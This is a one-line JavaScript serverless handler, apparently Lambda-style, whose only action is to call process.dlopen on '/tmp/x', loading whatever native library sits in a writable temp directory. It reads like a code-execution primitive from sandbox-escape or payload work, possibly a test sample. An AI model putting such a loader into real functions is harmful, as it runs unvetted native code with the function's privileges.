exports.handler=async e=>{process.dlopen({}, '/tmp/x')}
